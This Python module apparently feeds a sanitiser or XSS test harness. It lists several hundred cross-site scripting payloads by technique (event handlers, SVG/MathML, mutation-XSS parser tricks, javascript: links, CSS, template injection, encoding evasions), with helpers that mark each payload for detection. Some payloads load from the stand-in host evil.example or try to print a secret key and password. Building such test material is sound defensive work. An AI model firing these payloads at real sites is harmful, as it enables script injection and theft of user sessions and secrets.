"""Markup that would run in a browser if a page printed it as it stands: each calls hit().

By what it plays on. Sources of the ideas: https://cheatsheetseries.owasp.org/cheatsheets/
XSS_Filter_Evasion_Cheat_Sheet.html, https://html5sec.org and the tests of HTML sanitisers.
"""

import re

TAGS = [
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script/x>hit()</script>",
    "<script\n>hit()</script\n>",
    "<script\x0c>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,hit()></script>",
    "<script type=module>hit()</script>",
    "<script type=text/ecmascript>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit();//<</script>",
    "<script>hit()",
    "<script>hit()<!--",
    "<script>/*</script><script>*/hit()</script>",
    "<script>\u2028hit()</script>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.hit()&lt;/script&gt;'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:hit()></object>",
    "<object data='data:text/html,<script>hit()</script>'></object>",
    "<embed src=javascript:hit()>",
    "<embed src='data:text/html,<script>hit()</script>'>",
    "<base href=//evil.example/>",
    "<base target=_blank><a href=javascript:hit()>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=set-cookie content='evil=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x>",
    "<form action=javascript:hit()><input type=submit autofocus></form>",
    "<form><button formaction=javascript:hit()>x</button></form>",
    "<isindex action=javascript:hit() type=image>",
    "<applet code=hit()></applet>",
    "<frameset onload=hit()>",
    "<portal src=//evil.example/></portal>",
]
HANDLERS = [
    "<img src=x onerror=hit()>",
    "<IMG SRC=x ONERROR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror=hit`1`>",
    "<img src=x onerror='hit()'",
    "<img src=x:x onerror=&#104;it()>",
    "<img src=x onerror=&#x68&#x69&#x74&#x28&#x29>",
    "<img src=x onerror=\\u0068it()>",
    "<img src=x onerror\x0c=hit()>",
    "<img src=x\tonerror\n=\nhit()>",
    "<img ''><script>hit()</script>'>",
    "<img src='x`><script>hit()</script>'`>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='x 1x' onerror=hit()>",
    "<image src=x onerror=hit()>",
    "<body onload=hit()>",
    "<body onpageshow=hit()>",
    "<html onmouseover=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>",
    "<button autofocus onfocus=hit()>x</button>",
    "<a href=# autofocus onfocus=hit() tabindex=1>x</a>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video src=x onerror=hit()></video>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<audio autoplay onloadstart=hit() src=x></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<style onload=hit()></style>",
    "<link rel=stylesheet href=x onerror=hit()>",
    "<script src=x onerror=hit()></script>",
    "<object data=x onerror=hit()></object>",
    "<div style=animation-name:x onanimationstart=hit()>x</div>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=hit()>x</p>",
    "<div onpointerover=hit()>x</div>",
    "<dialog open onclose=hit()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<input type=image src=x onerror=hit()>",
    "<div popover onbeforetoggle=hit() id=p></div><button popovertarget=p autofocus>x</button>",
    "<xss contenteditable autofocus onfocus=hit()>x</xss>",
    "<p onclick=hit()>x</p>",
    "<x onfocusin=hit() tabindex=1 autofocus>x</x>",
]
QUOTES = [
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    "` autofocus onfocus=hit() x=`",
    " autofocus onfocus=hit() x",
    '"/onmouseover="hit()',
    "&quot; autofocus onfocus=hit() x=&quot;",
    "&#34;&#62;<script>hit()</script>",
    '" style="animation-name:x" onanimationstart="hit()',
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</style><script>hit()</script>",
    "</noscript><script>hit()</script>",
    "</option></select><script>hit()</script>",
    "</iframe><script>hit()</script>",
    "</xmp><script>hit()</script>",
    "--><script>hit()</script>",
    "--!><script>hit()</script>",
    "]]><script>hit()</script>",
    "?><script>hit()</script>",
    "%><script>hit()</script>",
    "*/hit()/*",
    "</p></div></main></body></html><script>hit()</script>",
]
DRAWINGS = [
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:text/javascript,hit() /></svg>",
    "<svg><script xlink:href=data:text/javascript,hit() /></svg>",
    "<svg><script>hit&#40;&#41;</script></svg>",
    "<svg><a href=javascript:hit()><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=javascript:hit()><rect width=9 height=9 /></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x</text></a></svg>",
    "<svg><image href=x onerror=hit() /></svg>",
    "<svg><use href=data:image/svg+xml,x onerror=hit() /></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.hit()></iframe></foreignObject></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit()</handler></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<svg><title><img src=x onerror=hit()></title></svg>",
    "<svg><desc><script>hit()</script></desc></svg>",
    '<?xml-stylesheet href="javascript:hit()"?><svg/>',
    "<math href=javascript:hit()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<math><mtext><script>hit()</script></mtext></math>",
]
# What a sanitiser reads in one way and a browser in another.
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<style><p title='</style><img src=x onerror=hit()>'>",
    "<textarea><p title='</textarea><img src=x onerror=hit()>'>",
    "<title><p title='</title><img src=x onerror=hit()>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<noembed><p title='</noembed><img src=x onerror=hit()>'>",
    "<noframes><p title='</noframes><img src=x onerror=hit()>'>",
    "<plaintext><img src=x onerror=hit()>",
    "<template><img src=x onerror=hit()></template>",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x onerror=hit()>'>"
    ),
    "<math><mtext><table><mglyph><style><math><img src=x onerror=hit()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<svg><p><style><g title='</style><img src=x onerror=hit()>'>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=hit()></style>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<!---><img src=x onerror=hit()>-->",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<!--<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<svg><![CDATA[><img src=x onerror=hit()>]]></svg>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit()>'>]>&y;",
    "<?x ><img src=x onerror=hit()>?>",
    "<select><iframe></select><img src=x onerror=hit()>",
    "<select><template><img src=x onerror=hit()></template></select>",
    "<table><td><a href='javascript:hit()'><table><img src=x onerror=hit()>",
    "<a href='x'><a href='javascript:hit()'>x</a>",
    "<p><a title='<!--<script>hit()</script>-->'>x</a>",
    "<p id='</p><img src=x onerror=hit()>'>x</p>",
    '<a title="&lt;/a&gt;&lt;img src=x onerror=hit()&gt;" href=#>x</a>',
    "<abbr title='&quot;><img src=x onerror=hit()>'>x</abbr>",
    "<b><i></b><img src=x onerror=hit()></i>",
    "<pre>\n<img src=x onerror=hit()></pre>",
    "<img src=x onerror=hit() alt='\x0b'>",
    "&lt;img src=x onerror=hit()&gt;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "<img src=1 name=getElementById id=hits>",
    "<form id=hits><input name=push></form><a id=location href=//evil.example/>x</a>",
]
LINKS = [
    "<a href=javascript:hit()>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "<a href='\x01javascript:hit()'>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<a href='java&#x09;script:hit()'>x</a>",
    "<a href='java&NewLine;script:hit()'>x</a>",
    "<a href='javascript&colon;hit&lpar;&rpar;'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='&#0000106avascript:hit()'>x</a>",
    "<a href='javascript:%68it()'>x</a>",
    "<a href='javascript://evil.example/%0Ahit()'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='livescript:hit()'>x</a>",
    "<a href='data:text/html,<script>opener.hit()</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='view-source:javascript:hit()'>x</a>",
    "<a href='blob:null/hit()'>x</a>",
    "<a href='feed:javascript:hit()'>x</a>",
    "<a href='\uff4aavascript:hit()'>x</a>",
    "<a href='javascript\u200b:hit()'>x</a>",
    "<a href='//evil.example/' ping='//evil.example/ping'>x</a>",
    "<area href=javascript:hit()>",
]
STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background:url(javascript:hit())'>x</p>",
    "<p style='x:expression(hit())'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x#y)'>x</p>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "} body { background: url(//evil.example/x) } /*",
]
TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}{% include 'admin/base.html' %}",
    "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}#{hit()}<%= hit() %>",
    "{%endblock%}<script>hit()</script>",
    "%(name)s%(0)d{0.__class__}{name!r}",
    "</script><script>hit()</script>",
    "\\u003c/script\\u003e\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "<!--<script>",
    '"}</script><script>hit()</script>',
    '","@context":"//evil.example/","x":"',
    '\\";hit();//',
    "';hit();//",
    "\u2028hit()\u2029",
]
FILES = [
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>hit()</script>",
    "]]>]]&gt;<![CDATA[<script>hit()</script>",
    "&lt;/content&gt;&lt;script&gt;hit()&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "END:VEVENT\\nBEGIN:VEVENT\\nURL:javascript:hit()",
    '=HYPERLINK("javascript:hit()")',
    "@import(//evil.example/)",
    "}, url = {javascript:hit()}, x = {\\write18{hit()}",
]
LETTERS = [
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\xbcscript\xbehit()\xbc/script\xbe",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2039script\u203ahit()\u2039/script\u203a",
    "%3Cscript%3Ehit()%3C/script%3E",
    "%253Cscript%253Ehit()%253C/script%253E",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&lt;script>hit()&lt;/script>",
    "\u202e>tpircs/<()tih>tpircs<\u202c",
    "<scr\u200bipt>hit()</scr\u200bipt>",
    "<\u017fcript>hit()</\u017fcript>",
    "<\u212aimg src=x onerror=hit()>",
    '\u2066"><script>hit()</script>\u2069',
    "\ufeff<script>hit()</script>",
    "<img src=x onerror=hit()>\u0338",
    "\U0001f4a9<script>hit()</script>",
    "\x1b(J<script>hit()</script>",
    "\x7f<script>hit()</script>",
]
PAYLOADS = [
    *(TAGS + HANDLERS + QUOTES + DRAWINGS + MUTATIONS),
    *(LINKS + STYLES + TEMPLATES + FILES + LETTERS),
]
MARK = re.compile(r"K(\d{3})MK(\d{3})")


def mark(number, place):
    """By it the judge sees which payload a page shows, and of which field."""
    return f"K{number:03d}MK{place:03d}"


def as_text(numbers, place, longest=None):
    """The payloads, each behind its mark: as many as fit whole, or the first cut off."""
    marked = [f"{mark(number, place)} {PAYLOADS[number]}" for number in numbers]
    return as_long_as(longest, marked, " ")


def as_address(numbers, place, longest=600):
    """The same in an address that the register takes: one without spaces."""
    marked = [f"{mark(number, place)}={without_spaces(PAYLOADS[number])}" for number in numbers]
    return as_long_as(longest, [f"https://notices.example/?{marked[0]}", *marked[1:]], "&")


def without_spaces(payload):
    """A slash divides attributes as well."""
    return re.sub(r"[\s\x00-\x20\x7f]+", "/", payload)


def as_long_as(longest, parts, between):
    text = between.join(parts)
    while longest and len(text) > longest and len(parts) > 1:
        parts = parts[:-1]
        text = between.join(parts)
    return text[:longest]
